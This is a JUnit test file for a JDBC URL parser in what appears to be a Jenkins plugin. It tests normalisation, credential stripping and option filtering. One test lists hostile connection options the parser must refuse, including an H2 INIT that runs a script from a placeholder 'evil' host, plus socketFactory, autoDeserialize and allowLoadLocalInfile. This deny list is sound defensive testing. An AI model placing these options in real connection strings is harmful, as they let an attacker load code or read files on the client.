package io.jenkins.plugins.gateddeploy.migration.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.gateddeploy.gate.UsageException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://db/app | POSTGRESQL | jdbc:postgresql://db:5432/app",
                "jdbc:postgresql://a:1,b:2/app?targetServerType=primary | POSTGRESQL | jdbc:postgresql://a:1,b:2/app",
                "jdbc:postgresql:app | POSTGRESQL | jdbc:postgresql://localhost:5432/app",
                "jdbc:postgresql:///app | POSTGRESQL | jdbc:postgresql://localhost:5432/app",
                "jdbc:postgresql://[::1]:5433/my%20app | POSTGRESQL | jdbc:postgresql://[::1]:5433/my app",
                "jdbc:mysql://db/app?useSSL=false | MYSQL | jdbc:mysql://db:3306/app",
                "jdbc:mysql:replication://a,b/app | MYSQL | jdbc:mysql://a:3306,b:3306/app",
                "jdbc:mariadb://db:3307/app | MARIADB | jdbc:mariadb://db:3307/app",
                "jdbc:h2:./data/app;MODE=PostgreSQL | H2 | jdbc:h2:./data/app",
                "jdbc:h2:file:/srv/app | H2 | jdbc:h2:/srv/app",
                "jdbc:sqlite:data/app.db | SQLITE | jdbc:sqlite:data/app.db",
                "jdbc:sqlite:file:app.db?mode=ro | SQLITE | jdbc:sqlite:app.db",
            })
    void readsTheFormsOfEveryDriver(String url, DatabaseProduct product, String shown) {
        JdbcUrl parsed = JdbcUrl.parse(url).orElseThrow();
        assertThat(parsed.product()).isEqualTo(product);
        assertThat(parsed).hasToString(shown);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://u:hunter2@db/app",
                "jdbc:postgresql://u:hunter2@db:5432/app?sslmode=require",
                "jdbc:postgresql://db/app?user=u&password=hunter2",
                "jdbc:mysql://u:hunter2@db/app",
                "jdbc:mariadb://db/app?user=u&password=hunter2&sslMode=trust",
                "jdbc:h2:./app;USER=u;PASSWORD=hunter2",
            })
    void takesCredentialsOutOfTheUrl(String url) {
        JdbcUrl parsed = JdbcUrl.parse(url).orElseThrow();
        assertThat(parsed.user()).isEqualTo("u");
        assertThat(parsed.password()).isEqualTo("hunter2");
        assertThat(parsed.toString() + parsed.options() + parsed.place()).doesNotContain("hunter2");
        DatabaseAccess access = DatabaseAccess.of(url, null, null);
        assertThat(access.secrets()).containsExactly("hunter2");
        assertThat(access.toString()).doesNotContain("hunter2");
    }

    @Test
    void credentialsGivenApartGoFirst() {
        DatabaseAccess access = DatabaseAccess.of("jdbc:postgresql://u:one@db/app", "v", "two");
        JdbcUrl parsed = JdbcUrl.parse(access.url()).orElseThrow();
        assertThat(access.user(parsed)).isEqualTo("v");
        assertThat(access.password(parsed)).isEqualTo("two");
        assertThat(access.secrets()).containsExactlyInAnyOrder("one", "two");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://db/app?socketFactory=x.Evil | socketFactory",
                "jdbc:postgresql://db/app?sslmode=require&loggerFile=/etc/x | loggerFile",
                "jdbc:mysql://db/app?allowLoadLocalInfile=true | allowLoadLocalInfile",
                "jdbc:mysql://db/app?autoDeserialize=true | autoDeserialize",
                "jdbc:mariadb://db/app?initSql=drop | initSql",
                "jdbc:h2:./app;INIT=RUNSCRIPT FROM 'http://evil' | INIT",
                "jdbc:sqlite:app.db?enable_load_extension=true | enable_load_extension",
            })
    void refusesOptionsThatCanDoHarmByName(String url, String option) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(UsageException.class)
                .hasMessage("url: the option " + option
                        + " is refused, because it can load code, read or write files, or run statements; remove it");
    }

    @Test
    void givesTheDriverOnlyWhatIsNeededToConnect() {
        JdbcUrl url = JdbcUrl.parse(
                        "jdbc:postgresql://db/app?sslmode=require&currentSchema=shop&reWriteBatchedInserts=true&x=y")
                .orElseThrow();
        assertThat(url.passedOn()).containsOnlyKeys("sslmode", "currentSchema");
        assertThat(url.leftOut()).containsExactly("reWriteBatchedInserts", "x");
        assertThat(url.option("CURRENTSCHEMA")).isEqualTo("shop");
    }

    @Test
    void aDatabaseThatIsNotSupportedIsToldApartFromNoUrlAtAll() {
        assertThat(JdbcUrl.parse("jdbc:oracle:thin:scott/tiger@db:1521/app")).isEmpty();
        assertThatThrownBy(() -> JdbcUrl.parse("postgres://u:hunter2@db/app"))
                .isInstanceOf(UsageException.class)
                .hasMessage("url must be a JDBC URL such as jdbc:postgresql://host:5432/database");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db",
                "jdbc:postgresql://hunter2:hunter2/app",
                "jdbc:postgresql://db:99999/app",
                "jdbc:mariadb://db:3306/",
                "jdbc:h2:mem:hunter2",
                "jdbc:h2:tcp://hunter2/app",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:",
                "",
            })
    void aUrlThatCannotBeUsedIsOneSentenceWithoutItsContents(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(UsageException.class)
                .hasMessageStartingWith("url")
                .hasMessageNotContaining("hunter2");
    }
}
